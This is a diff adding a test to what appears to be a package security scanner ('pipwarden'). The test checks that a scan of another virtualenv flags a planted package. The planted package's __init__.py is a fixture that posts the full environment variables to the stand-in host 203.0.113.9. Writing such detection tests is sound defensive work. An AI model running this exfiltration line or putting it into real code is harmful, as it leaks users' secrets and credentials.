@@ -294,3 +294,28 @@ def test_code_check_caps_findings_of_a_clean_target(tmp_path: Path) -> None:
     assert {f.remediation for f in raw.findings if f.severity == Severity.MEDIUM} != {
         INSTALL.capped_fix
     }
+
+
+def test_installed_distribution_of_another_environment(run_cli: Any, tmp_path: Path) -> None:
+    from pipwarden import environment
+
+    venv = tmp_path / "env"
+    environment.create_venv(venv)
+    site = environment.site_packages(environment.find_target(str(venv)))[0]
+    (site / "wt_other").mkdir()
+    (site / "wt_other" / "__init__.py").write_text(
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://203.0.113.9/x', data=str(os.environ).encode())\n"
+    )
+    info = site / "wt_other-1.0.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: wt-other\nVersion: 1.0\n")
+    (info / "RECORD").write_text("wt_other/__init__.py,,\nwt_other-1.0.dist-info/METADATA,,\n")
+    res = run_cli("scan", "--installed", "wt-other", "-p", str(venv), "--format", "json")
+    assert res.exit_code == 1, res.stderr
+    target = json.loads(res.stdout)["targets"][0]
+    assert target["target"] == "installed:wt-other" and target["verdict"] != "clean"
+    assert any(f["path"] == "wt_other/__init__.py" for f in target["findings"])
+    # this interpreter's packages are not that environment's
+    res = run_cli("scan", "--installed", "iniconfig", "-p", str(venv))
+    assert res.exit_code == 2 and "no installed distribution named 'iniconfig' in" in res.stderr
